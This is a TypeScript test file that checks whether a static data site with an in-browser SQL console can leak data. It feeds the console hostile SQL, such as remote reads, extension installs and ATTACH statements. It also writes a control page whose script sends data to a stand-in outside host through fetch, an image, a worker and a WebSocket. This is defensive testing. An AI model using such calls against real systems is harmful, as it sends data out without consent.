import { createHash } from 'node:crypto';
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EVERY_STATE, everyState } from './every-state';
import {
  databaseReady,
  goOffline,
  onPage,
  openPage,
  openSite,
  SITE_FOLDER,
  type Site,
  savedFile,
} from './harness';

let site: Site;
beforeAll(async () => {
  site = await openSite();
});
afterAll(() => site.close());

const CANARY = '翠鸟衔来三一四一五九';

describe('a file of the reader', () => {
  it('goes nowhere: no word of it is in any request, whatever is done with it', async () => {
    await onPage(site, '/import/', async ({ page, watch }) => {
      await databaseReady(page);
      const buffer = Buffer.from(everyState(`${CANARY}。`), 'utf8');
      const id = createHash('sha256').update(buffer).digest('hex').slice(0, 12);
      const name = `${CANARY}.txt`;
      await page
        .locator('input[data-input="files"]')
        .setInputFiles([{ name, mimeType: 'text/plain', buffer }]);
      await page
        .getByTestId('import-progress')
        .getByText(/个文件已处理/)
        .waitFor({ timeout: 60_000 });
      await page.getByRole('link', { name: EVERY_STATE.town }).first().click();
      const source = page.locator('ol[aria-label="原文"]');
      await source.getByText(CANARY).waitFor();
      for (const link of ['总览', '对比', '核查', '数据']) {
        await page.getByRole('banner').getByRole('link', { name: link, exact: true }).click();
        await page.getByRole('heading', { level: 1, name: link, exact: true }).waitFor();
      }
      await page.getByRole('radio', { name: /^长表/ }).check();
      const button = page.getByRole('button', { name: '下载 CSV', exact: true }).first();
      await expect.poll(() => button.isEnabled()).toBe(true);
      const file = await savedFile(page, () => button.click());
      expect(file.text).toContain(id);
      expect(watch.requests.length).toBeGreaterThan(10);
      const said = [CANARY, encodeURIComponent(CANARY), Buffer.from(CANARY).toString('base64'), id];
      const told = watch.requests.filter(({ url, body }) =>
        said.some((word) => url.includes(word) || body?.includes(word)),
      );
      expect(told).toEqual([]);
      expect(watch.requests.filter(({ body }) => body !== null)).toEqual([]);
    });
  });
});

describe('the SQL console', () => {
  const ask = async (page: Page, sql: string) => {
    await page.getByLabel('SQL 语句').fill(sql);
    await page.getByRole('button', { name: '运行' }).click();
    const said = page.locator('#sql').getByRole('alert');
    await said.waitFor();
    return said.innerText();
  };

  it('can fetch nothing, install nothing and write nothing, and says so', async () => {
    await onPage(site, '/extract/', async (open) => {
      const { page, watch } = open;
      await databaseReady(page);
      await goOffline(open);
      const before = watch.requests.length;
      for (const sql of [
        "SELECT * FROM read_csv('https://elsewhere.example/x.csv')",
        "SELECT * FROM 'https://elsewhere.example/x.parquet'",
        `SELECT * FROM read_csv('${site.origin}/data/reports.csv')`,
        "INSTALL httpfs FROM 'https://elsewhere.example'",
        'LOAD json',
        "SELECT '{}'::JSON",
        "COPY (SELECT 1) TO 'x.csv'",
        'DROP TABLE wide',
        "ATTACH 'https://elsewhere.example/x.duckdb'",
        'SET enable_external_access=true',
        'SELECT 1; SELECT 2',
      ]) {
        const said = await ask(page, sql);
        expect(said, sql).toMatch(/语句未能运行|一次只能运行一条语句/);
        await page.getByLabel('SQL 语句').fill('SELECT 40 + 2 AS answer');
        await page.getByRole('button', { name: '运行' }).click();
        await page.getByTestId('console-status').getByText(/1 行/).waitFor();
      }
      const asked = watch.requests.slice(before).filter(({ url }) => !/_next\/static|icon\.svg/.test(url));
      expect(asked).toEqual([]);
    });
  });
});

describe('the policy of the built site', () => {
  const files = readdirSync(SITE_FOLDER, { recursive: true, encoding: 'utf8' })
    .filter((file) => file.endsWith('.html'))
    .map((file) => join(SITE_FOLDER, file));

  it('stands in every page, first in its head, and allows no inline script but its own', () => {
    expect(files.length).toBeGreaterThanOrEqual(15);
    for (const file of files) {
      const html = readFileSync(file, 'utf8');
      const name = relative(SITE_FOLDER, file);
      const policy = /<head[^>]*><meta http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(
        html,
      )?.[1];
      expect(policy, name).toBeDefined();
      const rules = new Map(
        (policy ?? '').split('; ').map((rule) => [rule.split(' ')[0], rule.split(' ').slice(1)] as const),
      );
      expect(rules.get('default-src'), name).toEqual(["'none'"]);
      expect(rules.get('connect-src'), name).toEqual(["'self'"]);
      expect(rules.get('worker-src'), name).toEqual(['blob:']);
      expect(rules.get('form-action'), name).toEqual(["'none'"]);
      const allowed = rules.get('script-src') ?? [];
      expect(allowed, name).not.toContain("'unsafe-inline'");
      expect(allowed, name).not.toContain("'unsafe-eval'");
      const hashes = allowed.filter((source) => source.startsWith("'sha256-"));
      const scripts = [...html.matchAll(/<script(?<attributes>[^>]*)>(?<body>[\s\S]*?)<\/script>/g)]
        .filter(({ groups }) => !/\bsrc=/.test(groups?.['attributes'] ?? ''))
        .map(({ groups }) =>
          createHash('sha256')
            .update(groups?.['body'] ?? '')
            .digest('base64'),
        );
      expect(scripts.length, name).toBeGreaterThan(0);
      expect([...new Set(scripts)].map((hash) => `'sha256-${hash}'`).sort(), name).toEqual(
        [...hashes].sort(),
      );
    }
  });

  it('names no other origin in anything that a page loads', () => {
    for (const file of files) {
      const html = readFileSync(file, 'utf8');
      const loaded = [
        ...html.matchAll(/<(?:script|link|img|iframe|source)\b[^>]*?\b(?:src|href)="([^"]*)"/g),
      ];
      const elsewhere = loaded.map(([, url = '']) => url).filter((url) => /^(?:[a-z]+:)?\/\//.test(url));
      expect(elsewhere, relative(SITE_FOLDER, file)).toEqual([]);
    }
  });

  it('stops a script that tries to send something away', async () => {
    const { page, context, watch } = await openPage(site);
    await page.goto(`${site.origin}/`);
    const outcome = await page.evaluate(async () => {
      const image = new Image();
      image.src = 'https://elsewhere.example/?canary';
      try {
        await fetch('https://elsewhere.example/?canary');
        return 'sent';
      } catch (error) {
        return String(error);
      }
    });
    await context.close();
    expect(outcome).toContain('TypeError');
    expect(watch.leaks).toEqual([]);
    expect(watch.errors.join('\n')).toContain('Content Security Policy');
  });
});

/** The control: without its walls a page does get to the routes, and the harness says so. */
describe('a page that leaks on purpose', () => {
  const folder = mkdtempSync(join(tmpdir(), 'jiebao-leak-'));
  afterAll(() => rmSync(folder, { recursive: true }));

  it('is found out, whichever way it takes', async () => {
    writeFileSync(
      join(folder, 'index.html'),
      `<!doctype html><title>leak</title><img src="https://elsewhere.example/image">
       <script>
         fetch('https://elsewhere.example/fetch').catch(() => document.title = 'tried');
         new Worker(URL.createObjectURL(new Blob(["fetch('https://elsewhere.example/worker')"])));
         new WebSocket('wss://elsewhere.example/socket');
       </script>`,
    );
    const leaky = await openSite(folder);
    try {
      const { page, context, watch } = await openPage(leaky);
      await page.goto(`${leaky.origin}/`, { waitUntil: 'networkidle' });
      await expect.poll(() => watch.leaks.length, { timeout: 10_000 }).toBeGreaterThanOrEqual(4);
      await context.close();
      const paths = watch.leaks.map((leak) => leak.split('elsewhere.example/')[1]).sort();
      expect(paths).toEqual(['fetch', 'image', 'socket', 'worker']);
    } finally {
      await leaky.close();
    }
  });
});
